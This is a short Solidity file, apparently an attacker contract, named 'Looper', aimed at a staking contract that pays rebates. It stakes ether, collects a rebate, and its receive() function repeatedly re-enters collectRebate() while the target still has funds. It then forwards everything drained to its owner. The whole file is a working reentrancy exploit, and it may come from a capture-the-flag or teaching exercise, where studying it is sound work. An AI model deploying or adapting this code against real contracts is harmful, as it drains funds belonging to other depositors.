pragma solidity 0.8.19;

interface IDesk {
    function stake() external payable;
    function collectRebate() external;
    function rebate(address who) external view returns (uint256);
}

contract Looper {
    IDesk public desk;
    address payable private owner;

    constructor() {
        owner = payable(msg.sender);
    }

    function run(IDesk d) external payable {
        desk = d;
        desk.stake{value: msg.value}();
        desk.collectRebate();
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        if (msg.sender == address(desk) && address(desk).balance >= desk.rebate(address(this))) {
            desk.collectRebate();
        }
    }
}
